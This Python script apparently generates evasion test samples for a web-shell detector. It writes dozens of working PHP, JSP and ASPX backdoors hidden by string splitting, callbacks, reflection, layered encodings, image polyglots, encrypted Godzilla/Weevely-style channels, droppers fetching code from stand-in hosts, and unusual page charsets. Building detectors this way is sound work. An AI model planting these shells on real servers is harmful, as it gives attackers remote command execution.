"""Write the evasion samples in this directory (run: python tests/samples/evasion/make_evasion.py).

Every sample is inert text: it would only act if deployed on a PHP or Java server. Encoded payloads
are generated here so the encodings are real; random parts use a fixed seed, so re-running rewrites
the same bytes.
"""

import base64
import binascii
import codecs
import os
import random
import zlib

ROOT = os.path.dirname(os.path.abspath(__file__))

def w(rel, text):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = text.encode('latin-1') if isinstance(text, str) else text
    with open(path, 'wb') as f:
        f.write(data)
def deflate(b):
    return zlib.compress(b, 9)[2:-4]
def xor(data, key):
    return bytes(c ^ key[i % len(key)] for i, c in enumerate(data))

# ---------------- PHP: renamed variables / reordered one-liners ----------------
w('php/renamed-vars/wp-content/themes/twenty/footer-cache.php', '''<?php
/* footer cache helper */
$cfg_timeout = 30;
$page_token = $_POST['tk'];
$buffer = $page_token;
$render = "as" . "se" . "rt";
$render($buffer);
''')
w('php/renamed-vars/lib/session.php', '''<?php
$ctx = array();
$ctx['q'] = @$_COOKIE['sess_q'];
$handler = 'pass' . 'thru';
if (!empty($ctx['q'])) { $handler($ctx['q']); }
''')
w('php/reordered/inc/widgets.php', '''<?php
function widget_output($data) { return shell_exec($data); }
$w = isset($_REQUEST['w']) ? $_REQUEST['w'] : 'date';
echo '<pre>' . widget_output($w) . '</pre>';
''')

# ---------------- PHP: split strings / built names ----------------
w('php/split-strings/strrev.php', '''<?php
$fn = strrev('metsys');
$fn($_GET['q']);
''')
w('php/split-strings/chr-chain.php', '''<?php
$x = chr(112) . chr(97) . chr(115) . chr(115) . chr(116) . chr(104) . chr(114) . chr(117);
$x($_POST['p']);
''')
w('php/split-strings/hex-escapes.php', '''<?php
$h = "\\x73\\x68\\x65\\x6c\\x6c\\x5f\\x65\\x78\\x65\\x63";
echo $h($_SERVER['HTTP_X_Q']);
''')
w('php/split-strings/str-replace.php', '''<?php
$k = str_replace('#', '', 'a#s#s#e#r#t');
@$k(stripslashes($_REQUEST['cmd']));
''')
w('php/split-strings/alphabet-index.php', '''<?php
$abc = 'abcdefghijklmnopqrstuvwxyz';
$f = $abc[18] . $abc[24] . $abc[18] . $abc[19] . $abc[4] . $abc[12];
$f($_GET['z']);
''')
w('php/split-strings/implode-array.php', '''<?php
$parts = array('sys', 'te', 'm');
$run = implode('', $parts);
$run($_POST['c']);
''')
w('php/split-strings/xor-strings.php', '''<?php
$_f = ('9' ^ 'X') . ('3' ^ '@') . ('3' ^ '@') . ('%' ^ '@') . ('2' ^ '@') . ('4' ^ '@');
$_f($_POST[0]);
''')
w('php/split-strings/pack-hex.php', '''<?php
$n = pack('H*', '73797374656d');
$n(@$_GET['r']);
''')
w('php/split-strings/bitwise-not.php', b'''<?php
$o = ~"\x8c\x86\x8c\x8b\x9a\x92";
$o($_POST['o']);
''')
w('php/split-strings/sprintf-ucfirst.php', '''<?php
$base = sprintf('%s%s', 'shell', '_exec');
$v = strtolower(ucfirst($base));
print $v($_REQUEST['v']);
''')

# ---------------- PHP: comments inside calls / padding ----------------
w('php/comments-inside-calls/ev.php', '''<?php
@eval/*   cache   */(/* build */$_POST/* id */['p'] /* end */);
''')
w('php/comments-inside-calls/concat.php', '''<?php
$z = 'sy' /* a */ . /* b */ 'st' . /* c */ 'em';
$z(/* input */ $_GET /* k */ ['k']);
''')
w('php/padding/wp-blog-cache.php', '<?php\n' + '\n'.join('// cache entry %04d: ok' % i for i in range(300)) + '\n' + ' ' * 400 + '$q=$_COOKIE["q"];' + ' ' * 300 + '$e="ass"."ert";$e($q);\n')
w('php/padding/whitespace.php', '<?php' + ' ' * 2000 + '$a = $_REQUEST["a"];' + '\t' * 500 + "$b = 'system';" + '\n' * 200 + '$b($a);\n')

# ---------------- PHP: callbacks ----------------
w('php/callbacks/array-map.php', '''<?php
$list = array($_POST['e']);
array_map('ass' . 'ert', $list);
''')
w('php/callbacks/array-filter.php', '''<?php
$f = 'sys' . 'tem';
array_filter(array($_REQUEST['x']), $f);
''')
w('php/callbacks/usort.php', '''<?php
$arr = array($_POST['a'], 1);
usort($arr, $_POST['b']);
''')
w('php/callbacks/shutdown.php', '''<?php
register_shutdown_function(strrev('tressa'), $_GET['s']);
''')
w('php/callbacks/call-user-func-array.php', '''<?php
$args = array($_REQUEST['c']);
call_user_func_array(base64_decode('c3lzdGVt'), $args);
''')
w('php/callbacks/preg-replace-callback.php', '''<?php
$cb = 'shell' . '_exec';
echo preg_replace_callback('/.+/', function ($m) use ($cb) { return $cb($m[0]); }, $_POST['q']);
''')
w('php/callbacks/closure.php', '''<?php
$runner = function ($x) {
    return passthru($x);
};
$runner($_SERVER['HTTP_X_RUN']);
''')
w('php/callbacks/helper-chain.php', '''<?php
function cache_get($key) { return cache_read($key); }
function cache_read($k) { $h = 'pro' . 'c_open'; return $h($k, array(), $p); }
cache_get(getallheaders()['X-Key']);
''')

# ---------------- PHP: variable variables, extract, parse_str ----------------
w('php/variable-variables/foreach-globals.php', '''<?php
foreach ($_POST as $key => $value) {
    $$key = $value;
}
if (isset($act)) {
    system($act);
}
''')
w('php/variable-variables/dynamic-superglobal.php', '''<?php
$p = ${'_PO' . 'ST'};
$c = $p['c'];
eval($c);
''')
w('php/variable-variables/globals-array.php', '''<?php
$in = $GLOBALS['_' . 'GET'];
$fun = 'ex' . 'ec';
$fun($in['cmd'], $out);
echo implode("\\n", $out);
''')
w('php/extract/extract-request.php', '''<?php
extract($_REQUEST);
if (!empty($mode) && $mode == 'run') {
    echo shell_exec($cmd);
}
''')
w('php/extract/parse-str.php', '''<?php
parse_str($_SERVER['QUERY_STRING'], $opts);
$t = $opts['t'];
`$t`;
''')
w('php/extract/parse-str-global.php', '''<?php
parse_str(file_get_contents('php://input'));
assert($code);
''')

# ---------------- PHP: reflection and class indirection ----------------
w('php/reflection/reflection-function.php', '''<?php
$r = new ReflectionFunction('sys' . 'tem');
$r->invoke($_GET['c']);
''')
w('php/reflection/invoke-args.php', '''<?php
$name = $_POST['fn'];
$rf = new ReflectionFunction($name);
$rf->invokeArgs(array($_POST['arg']));
''')
w('php/reflection/closure-fromcallable.php', '''<?php
$c = Closure::fromCallable('pass' . 'thru');
$c($_COOKIE['x']);
''')
w('php/class-indirection/destruct.php', '''<?php
class CacheEntry {
    public $payload;
    public function __destruct() {
        if ($this->payload) {
            @eval($this->payload);
        }
    }
}
$e = new CacheEntry();
$e->payload = $_POST['data'];
''')
w('php/class-indirection/invoke.php', '''<?php
class Job {
    public function __invoke($line) {
        return system($line);
    }
}
$job = new Job();
$job($_REQUEST['line']);
''')
w('php/class-indirection/dynamic-method.php', '''<?php
class Tools {
    public function ping($h) { return $h; }
    public function run($c) { return shell_exec($c); }
}
$t = new Tools();
$m = $_GET['m'];
echo $t->$m($_GET['a']);
''')
w('php/class-indirection/array-callable.php', '''<?php
class Exporter {
    public static function render($tpl) {
        eval('?>' . $tpl);
    }
}
call_user_func(array('Exporter', 'render'), $_POST['tpl']);
''')
w('php/class-indirection/constructor-property.php', '''<?php
class Task {
    private $cmd;
    public function __construct($c) { $this->cmd = $c; }
    public function __destruct() { echo `{$this->cmd}`; }
}
new Task($_SERVER['HTTP_ACCEPT_TASK']);
''')
w('php/create-function/lambda.php', '''<?php
$f = create_function('$x', 'ev' . 'al($x);');
$f($_POST['code']);
''')
w('php/create-function/callback-lambda.php', '''<?php
array_map(create_function('$a', 'return system($a);'), array($_GET['s']));
''')

# ---------------- PHP: nested encodings (payload is a small shell) ----------------
inner = b"echo shell_exec($_POST['cmd']);"
w('php/nested-encodings/rot13-b64-inflate.php', "<?php\neval(gzinflate(base64_decode(str_rot13('%s'))));\n" % codecs.encode(base64.b64encode(deflate(inner)).decode(), 'rot13'))
w('php/nested-encodings/strrev-b64.php', "<?php\n$p = '%s';\n@eval(base64_decode(strrev($p)));\n" % base64.b64encode(b"@system($_REQUEST['r']);").decode()[::-1])
w('php/nested-encodings/gzuncompress-b64.php', "<?php\n$d = gzuncompress(base64_decode('%s'));\neval($d);\n" % base64.b64encode(zlib.compress(b"passthru($_GET['g']);")).decode())
w('php/nested-encodings/hex2bin.php', "<?php\n$z = hex2bin('%s');\nassert($z);\n" % binascii.hexlify(b"system($_POST['h'])").decode())
w('php/nested-encodings/uudecode.php', "<?php\n$u = convert_uudecode(%r);\neval($u);\n" % binascii.b2a_uu(b"echo `$_GET[u]`;").decode().rstrip('\n'))
w('php/nested-encodings/helper-decoder.php', "<?php\nfunction d($s) { return gzinflate(base64_decode($s)); }\n$code = d('%s');\neval($code);\n" % base64.b64encode(deflate(b"$c = $_COOKIE['c']; system($c);")).decode())
w('php/nested-encodings/split-literal.php', "<?php\n$a = '%s';\n$b = '%s';\neval(base64_decode($a . $b));\n" % (base64.b64encode(b"eval($_POST['pp']);").decode()[:12], base64.b64encode(b"eval($_POST['pp']);").decode()[12:]))
w('php/nested-encodings/urldecode.php', "<?php\n$s = urldecode('%s');\neval($s);\n" % ''.join('%%%02x' % c for c in b"system($_GET['u']);"))
w('php/nested-encodings/outer-variable.php', "<?php\n$c = $_POST['x'];\neval(base64_decode('%s'));\n" % base64.b64encode(b"system($c);").decode())
key = b'Kx9!q'
w('php/nested-encodings/xor-key-loop.php', "<?php\n$d = base64_decode('%s');\n$k = 'Kx9!q';\n$o = '';\nfor ($i = 0; $i < strlen($d); $i++) {\n    $o .= $d[$i] ^ $k[$i %% strlen($k)];\n}\neval($o);\n" % base64.b64encode(xor(b"@passthru($_REQUEST['x']);", key)).decode())
w('php/nested-encodings/chr-ord-shift.php', "<?php\n$s = '%s';\n$r = '';\nfor ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) - 3); }\neval($r);\n" % ''.join(chr(c + 3) for c in b"system($_GET['s']);").replace("\\", "\\\\").replace("'", "\\'"))
w('php/nested-encodings/four-layers.php', "<?php\n@eval(gzinflate(base64_decode(strrev(str_rot13('%s')))));\n" % codecs.encode(base64.b64encode(deflate(b"$f = $_POST['f']; $f($_POST['a']);")).decode()[::-1], 'rot13'))

# ---------------- PHP: other sources / sinks ----------------
w('php/sources/php-input.php', '''<?php
$raw = file_get_contents('php://input');
$job = json_decode($raw, true);
system($job['cmd']);
''')
w('php/sources/header.php', '''<?php
$h = apache_request_headers();
$v = isset($h['X-Debug']) ? $h['X-Debug'] : '';
if ($v) { passthru($v); }
''')
w('php/sinks/dropper.php', '''<?php
$name = $_GET['n'];
file_put_contents($name, $_POST['body']);
echo 'ok';
''')
w('php/sinks/uploader.php', '''<?php
if (isset($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']);
    echo 'done';
}
''')
w('php/sinks/include-upload.php', '''<?php
include $_FILES['tpl']['tmp_name'];
''')
w('php/sinks/preg-e.php', '''<?php
@preg_replace('/.*/e', $_POST['r'], '');
''')
w('php/polyglot/uploads/2024/05/avatar.jpg', b'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;' + b"<?php $a = 'ass' . 'ert'; $a($_POST['img']); ?>")

# ---------------- JSP ----------------
w('jsp/renamed-vars/status.jsp', '''<%@ page import="java.io.*" %>
<%
  javax.servlet.http.HttpServletRequest rq = request;
  String job = rq.getParameter("job");
  if (job != null) {
    Process proc = Runtime.getRuntime().exec(job);
    BufferedReader br = new BufferedReader(new InputStreamReader(proc.getInputStream()));
    String l;
    while ((l = br.readLine()) != null) { out.println(l); }
  }
%>
''')
w('jsp/split-strings/reflect-exec.jsp', '''<%
  String c = request.getHeader("X-Token");
  String k = "java.lang." + "Run" + "time";
  Class<?> rc = Class.forName(k);
  Object rt = rc.getMethod("get" + "Runtime").invoke(null);
  rc.getMethod("ex" + "ec", String.class).invoke(rt, c);
%>
''')
w('jsp/split-strings/reversed-builder.jsp', '''<%
  String m = new StringBuilder("cexe").reverse().toString();
  Object r = Runtime.class.getMethod("getRuntime").invoke(null);
  Runtime.class.getMethod(m, String[].class).invoke(r, new Object[]{new String[]{"sh", "-c", request.getParameter("q")}});
%>
''')
w('jsp/arrays/processbuilder.jsp', '''<%@ page import="java.util.*" %>
<%
  List<String> cmd = new ArrayList<String>();
  cmd.add("/bin/sh");
  cmd.add("-c");
  cmd.add(request.getParameter("c"));
  ProcessBuilder pb = new ProcessBuilder(cmd);
  pb.redirectErrorStream(true);
  pb.start();
%>
''')
w('jsp/script-engine/eval.jsp', '''<%@ page import="javax.script.*" %>
<%
  ScriptEngineManager sem = new ScriptEngineManager();
  ScriptEngine se = sem.getEngineByName("nash" + "orn");
  Object r = se.eval(request.getParameter("js"));
  out.print(r);
%>
''')
w('jsp/classloader/behinder-style.jsp', '''<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class Ldr extends ClassLoader{Ldr(ClassLoader c){super(c);}public Class make(byte[] b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals("POST")){String k="0123456789abcdef";Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new Ldr(this.getClass().getClassLoader()).make(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);}%>
''')
w('jsp/classloader/godzilla-style.jsp', '''<%! String key = "3c6e0b8a9c15224a";
byte[] dec(byte[] s) throws Exception { javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(2, new javax.crypto.spec.SecretKeySpec(key.getBytes(), "AES")); return c.doFinal(s); }
Class load(byte[] b) throws Exception {
  java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class);
  m.setAccessible(true);
  return (Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length);
} %>
<% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter("pass"));
   Class k = load(dec(data));
   k.newInstance().equals(request); %>
''')
w('jsp/classloader/urlclassloader.jsp', '''<%@ page import="java.net.*" %>
<%
  URL u = new URL(request.getParameter("u"));
  URLClassLoader l = new URLClassLoader(new URL[]{u});
  l.loadClass("P").newInstance();
%>
''')
w('jsp/jspx/scriptlet.jspx', '''<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<jsp:scriptlet>
  String p = request.getParameter("p");
  if (p != null &amp;&amp; p.length() &gt; 0) { Runtime.getRuntime().exec(p); }
</jsp:scriptlet>
</jsp:root>
''')
w('jsp/helper-methods/declared-wrapper.jsp', '''<%!
  String run(String c) throws Exception {
    java.io.InputStream in = Runtime.getRuntime().exec(new String[]{"cmd.exe", "/c", c}).getInputStream();
    return new java.util.Scanner(in).useDelimiter("\\\\A").next();
  }
  String pick(javax.servlet.http.HttpServletRequest r) { return r.getParameter("x"); }
%>
<%= run(pick(request)) %>
''')
w('jsp/decoded-input/base64-command.jsp', '''<%
  String cmd = new String(java.util.Base64.getDecoder().decode(request.getParameter("b")));
  Runtime.getRuntime().exec(cmd);
%>
''')
w('jsp/nested-encodings/base64-payload.jsp', '''<%@ page import="java.util.*" %>
<%
  String code = new String(Base64.getDecoder().decode("PAYLOAD"));
  javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
  e.eval(code);
%>
'''.replace("PAYLOAD", base64.b64encode(b'java.lang.Runtime.getRuntime().exec(request.getParameter("c"));').decode()))
w('jsp/cookies/cookie-exec.jsp', '''<%
  javax.servlet.http.Cookie[] cs = request.getCookies();
  for (javax.servlet.http.Cookie ck : cs) {
    if (ck.getName().equals("sid")) {
      Runtime.getRuntime().exec(ck.getValue());
    }
  }
%>
''')

# ---------------- PHP: obfuscator output (statistics) ----------------
rnd = random.Random(7)
def oname():
    return '$' + ''.join(rnd.choice('O0') for _ in range(9))
names = [oname() for _ in range(16)]
alpha = 'th6sbehqla4co_sadfpnrzgiu'
enc = ''.join('%%%02X' % ord(c) for c in alpha)
idx = lambda word: '.'.join(f"{names[1]}[{alpha.index(ch)}]" for ch in word)
payload = base64.b64encode(deflate(b"if(isset($_POST['k'])){echo shell_exec($_POST['k']);}" + b"\n/*" + bytes(rnd.randrange(97, 123) for _ in range(1500)) + b"*/")).decode()
lines = ["<?php", f"{names[0]}=__FILE__;", f"{names[1]}=urldecode('{enc}');"]
lines.append(f"{names[2]}={idx('base64_decode')};")
lines.append(f"{names[3]}={idx('gzinflate')};")
for n in names[4:14]:
    lines.append(f"{n}='{rnd.randrange(10**6)}';")
lines.append(f"{names[14]}='{payload}';")
lines.append(f"eval({names[3]}({names[2]}({names[14]})));")
w('php/obfuscator-names/index.php', "\n".join(lines) + "\n")
big = b"<?php\n// file manager\n" + b"".join(b"function fm_%d($p) { return is_dir($p) ? scandir($p) : array(); }\n" % i for i in range(60)) + b"if (isset($_REQUEST['fm_cmd'])) { echo passthru($_REQUEST['fm_cmd']); }\n"
w('php/packed/long-blob.php', "<?php /* Plugin Name: Cache Tools */\n@eval(gzinflate(base64_decode('%s')));\n" % base64.b64encode(deflate(big + bytes(rnd.randrange(256) for _ in range(3000)))).decode())
w('php/packed/hex-escaped.php', "<?php\n$_ = \"" + ''.join('\\x%02x' % c for c in b"system($_GET['x']);" * 8) + "\";\n$__ = \"" + ''.join('\\x%02x' % c for c in b"assert") + "\";\n$__($_);\n$q = \"" + ''.join('\\x%02x' % c for c in b"passthru") + "\";\n$q($_REQUEST['q']);\n")

# ---------------- context: where the file is ----------------
w('php/upload-dir/wp-content/uploads/2023/11/thumb.php', '''<?php
$k = $_POST['k'] ?? '';
$fn = 'as' . 'sert';
if ($k !== '') { @$fn($k); }
''')
w('php/image-with-code/images/logo.php', b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82' + b"<?php $c = $_GET['c']; $r = 'sys' . 'tem'; $r($c); ?>")

# ---------------- ASPX (C#) ----------------
w('aspx/renamed-vars/status.aspx', '''<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    var rq = HttpContext.Current.Request;
    string job = rq.Form["job"];
    if (!string.IsNullOrEmpty(job)) {
        Process worker = new Process();
        worker.StartInfo.FileName = "cm" + "d.exe";
        worker.StartInfo.Arguments = "/c " + job;
        worker.StartInfo.UseShellExecute = false;
        worker.StartInfo.RedirectStandardOutput = true;
        worker.Start();
        Response.Write(worker.StandardOutput.ReadToEnd());
    }
}
</script>
''')
w('aspx/initializer/startinfo.aspx', '''<%@ Page Language="C#" %>
<%
  string a = Request.Headers["X-Args"];
  var si = new System.Diagnostics.ProcessStartInfo { FileName = "powershell.exe", Arguments = "-nop -c " + a };
  System.Diagnostics.Process.Start(si);
%>
''')
w('aspx/assembly-load/godzilla-style.aspx', '''<%@ Page Language="C#" %><%try { string key = "3c6e0b8a9c15224a"; byte[] data = System.Convert.FromBase64String(Context.Request["pass"]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); } } catch (System.Exception) { }%>
''')
w('aspx/assembly-load/behinder-style.aspx', '''<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>
''')
w('aspx/helper-methods/handler.ashx', '''<%@ WebHandler Language="C#" Class="StatusHandler" %>
using System.Web;
using System.Diagnostics;
public class StatusHandler : IHttpHandler {
    private string Run(string line) {
        var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true, UseShellExecute = false });
        return p.StandardOutput.ReadToEnd();
    }
    public void ProcessRequest(HttpContext context) {
        context.Response.Write(Run(context.Request.QueryString["l"]));
    }
    public bool IsReusable { get { return false; } }
}
''')
w('aspx/uploader/save.aspx', '''<%@ Page Language="C#" %>
<%
  if (Request.Files.Count > 0) {
    var f = Request.Files[0];
    f.SaveAs(Server.MapPath("~/") + Request.Form["dir"] + "/" + f.FileName);
    Response.Write("ok");
  }
%>
''')
w('aspx/nested-encodings/hidden-assembly.aspx', '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  var asm = System.Reflection.Assembly.Load(Convert.FromBase64String("' + base64.b64encode(b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + bytes(range(256)) * 2).decode() + '"));\n  asm.CreateInstance("Shell").Equals(Request);\n}\n</script>\n')

# ---------------- PHP: encrypted-channel shells (session state, request body) ----------------
w('php/stateful-session/godzilla-style.php', """<?php
@session_start();
@set_time_limit(0);
function encode($D, $K) {
    for ($i = 0; $i < strlen($D); $i++) {
        $c = $K[$i + 1 & 15];
        $D[$i] = $D[$i] ^ $c;
    }
    return $D;
}
$pass = 'pass';
$payloadName = 'payload';
$key = '3c6e0b8a9c15224a';
if (isset($_POST[$pass])) {
    $data = encode(base64_decode($_POST[$pass]), $key);
    if (isset($_SESSION[$payloadName])) {
        $payload = encode($_SESSION[$payloadName], $key);
        eval($payload);
        echo base64_encode(encode(@run($data), $key));
    } else {
        if (strpos($data, 'getBasicsInfo') !== false) {
            $_SESSION[$payloadName] = encode($data, $key);
        }
    }
}
""")
w('php/request-body/weevely-style.php', """<?php
$k = "4e4b4b84";
$kh = "c2a1b3d4e5f6";
$kf = "a7b8c9d0e1f2";
function x($t, $k) {
    $c = strlen($k);
    $l = strlen($t);
    $o = "";
    for ($i = 0; $i < $l;) {
        for ($j = 0; ($j < $c && $i < $l); $j++, $i++) {
            $o .= $t[$i] ^ $k[$j];
        }
    }
    return $o;
}
if (@preg_match("/$kh(.+)$kf/", @file_get_contents("php://input"), $m) == 1) {
    @ob_start();
    @eval(@gzuncompress(@x(@base64_decode($m[1]), $k)));
    $o = @ob_get_contents();
    @ob_end_clean();
    print(base64_encode(@x(@gzcompress($o), $k)));
}
""")

# ---------------- PHP: calls hidden in language corners ----------------
# Bare names read as strings (PHP before 8 turned an undefined constant into its own name).
w('php/split-strings/barewords.php', '''<?php
$go = (pa.(ss).(thru));
$go($_COOKIE['q']);
''')
# The output buffer's callback runs on what is printed.
w('php/callbacks/output-buffer.php', '''<?php
$flush = 'sys' . 'tem';
ob_start($flush);
echo $_POST['line'];
ob_end_flush();
''')
# Comparison callbacks: request data handed to assert as keys or values being compared.
w('php/callbacks/compare-keys.php', '''<?php
$cmp = 'as' . 'sert';
array_intersect_uassoc(array($_REQUEST['k'] => 1), array(0 => 1), $cmp);
''')
w('php/callbacks/compare-values.php', '''<?php
array_udiff_assoc(array($_GET['v']), array('x'), 'assert');
''')
# The request supplies the head of the function's name; the file holds only its tail.
w('php/callbacks/name-tail.php', '''<?php
$run = $_SERVER['HTTP_X_PREFIX'] . 'tem';
$run($_POST['a']);
''')
# Superglobals reached by looping over their names.
w('php/variable-variables/loop-over-names.php', '''<?php
foreach (array('_GET', '_POST') as $where) {
    foreach ($$where as $fn => $arg) {
        $fn($arg);
    }
}
''')
w('php/variable-variables/built-name.php', '''<?php
$n = '_' . 'P' . 'OST';
$req = $$n;
$f = ('!' ^ '@') . 'ss' . 'ert';
$f($req['z']);
''')
w('php/sinks/mb-eregi-e.php', '''<?php
mb_eregi_replace('.*', $_POST['r'], 'seed', 'e');
''')
# Code fetched at run time: evaluated, or written into a script (a dropper).
w('php/sinks/remote-eval.php', '''<?php
ignore_user_abort(true);
set_time_limit(0);
while ($next = @file_get_contents('http://198.51.100.23/task.txt')) {
    @eval($next);
    sleep(30);
}
''')
w('php/sinks/remote-dropper.php', '''<?php
$src = 'https://paste.example.org/raw/k2j3';
$body = file_get_contents($src);
if ($body !== false) {
    file_put_contents('wp-blog-cache.php', $body);
}
''')
# No letters at all: the names are built by incrementing and XOR-ing characters.
w('php/computed-names/increment.php', '<?=' + '$_=[];$_=@"$_";$_=$_[\'!\'==\'@\'];' + '$__=$_;' + '++$__;' * 6 + '$___=$_;' + '++$___;' * 4 + '$____=$_;' + '++$____;' * 19 + '$_____=\'_\'.$__.$___.$____;$______=$$_____;$______[0]($______[1]);')
w('php/computed-names/xor.php', '''<?php
$_ = ("'" ^ '`') . ('%' ^ '`') . ('4' ^ '`');
$__ = '_' . $_;
${$__}[0](${$__}[1]);
''')
# An upload moved to a fixed script name, its temporary name in a variable PHP filled in.
w('php/sinks/uploader-fixed-name.php', '''<?php
if (isset($attachment)) {
    move_uploaded_file($attachment, 'wp-cron-cache.php');
}
''')
# No superglobal at all: the page's own form fields arrive as plain variables (register_globals).
w('php/sources/register-globals.php', '''<?php if ($savepath != "") { $fh = fopen($savepath, "w"); fwrite($fh, $content); fclose($fh); } ?>
<html><body>
<form method="post">
<input type="text" name="savepath" size="60">
<textarea name="content" rows="20" cols="80"></textarea>
<input type="submit" value="save">
</form>
</body></html>
''')
# A dropper: the file name and the planted shell both packed as hex, inside the old script tag.
w('php/droppers/pack-dropper.php', '<script language="php">\nfputs(fopen(pack("H*", "'
  + binascii.hexlify(b'wp-tmp.php').decode() + '"), "w"), pack("H*", "'
  + binascii.hexlify(b"<?php @eval($_POST['t']); ?>").decode() + '"));\n</script>\n')

# ---------------- JSP and ASP.NET: pages written in an encoding where ASCII is not itself ----------------
# The server decodes the page before compiling it; byte-level signatures see only the encoded bytes.
JSP_EXEC = '''<%@ page import="java.io.*" %>
<%
    String q = request.getParameter("q");
    if (q != null) {
        Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", q});
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        for (String l; (l = r.readLine()) != null; ) out.println(l);
    }
%>
'''
# saved as UTF-16 with a byte-order mark (Tomcat honours the mark)
w('jsp/charsets/status.jsp', codecs.BOM_UTF16_LE + JSP_EXEC.encode('utf-16-le'))
# the encoding named in plain ASCII, the code after it in UTF-16BE (the whole file is decoded so;
# the directive itself becomes template text)
w('jsp/charsets/include/header.jsp', b'<%@ page pageEncoding="UTF-16BE"%>' + JSP_EXEC.encode('utf-16-be'))
# the charset of contentType serves when there is no pageEncoding; the code is EBCDIC
w('jsp/charsets/WEB-INF/footer.jsp', b'<%@page contentType="text/html;charset=cp037"%>  '
  + JSP_EXEC.replace('"/bin/sh", "-c", q', '"cmd.exe", "/c", q').encode('cp037'))
# an XML-syntax page wholly in EBCDIC: XML's detection finds the family, the declaration the code page
w('jsp/charsets/ebcdic.jspx', '''<?xml version="1.0" encoding="IBM037"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<jsp:scriptlet>
    String c = request.getParameter("c");
    if (c != null) {
        java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).useDelimiter("\\\\A");
        out.print(s.hasNext() ? s.next() : "");
    }
</jsp:scriptlet>
</jsp:root>
'''.encode('cp037'))
# an XML-syntax page in UTF-16LE without a mark (XML's detection: 3C 00 3F 00)
w('jsp/charsets/view.jspx', '''<?xml version="1.0" encoding="UTF-16LE"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<jsp:directive.page import="java.io.*"/>
<jsp:scriptlet>
    ProcessBuilder b = new ProcessBuilder("/bin/sh", "-c", request.getParameter("x"));
    b.redirectErrorStream(true);
    InputStream in = b.start().getInputStream();
    int ch; while ((ch = in.read()) != -1) out.write(ch);
</jsp:scriptlet>
</jsp:root>
'''.encode('utf-16-le'))
ASPX_EXEC = '''<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string a = Request.Form["a"];
    if (string.IsNullOrEmpty(a)) return;
    var si = new ProcessStartInfo("cmd.exe", "/c " + a) { UseShellExecute = false, RedirectStandardOutput = true };
    Response.Write(Server.HtmlEncode(Process.Start(si).StandardOutput.ReadToEnd()));
}
</script>
'''
# saved as "Unicode" (UTF-16LE with a mark), as Windows editors offer
w('aspx/charsets/aspnet_client/system_web/help.aspx', codecs.BOM_UTF16_LE + ASPX_EXEC.encode('utf-16-le'))
# a handler in UTF-32LE with a mark (.NET's reader detects it)
w('aspx/charsets/App_Data/ping.ashx', codecs.BOM_UTF32_LE + '''<%@ WebHandler Language="C#" Class="Ping" %>
using System.Web;
using System.Diagnostics;
public class Ping : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) {
        Process p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + ctx.Request["h"]) { UseShellExecute = false, RedirectStandardOutput = true });
        ctx.Response.Write(p.StandardOutput.ReadToEnd());
    }
}
'''.encode('utf-32-le'))
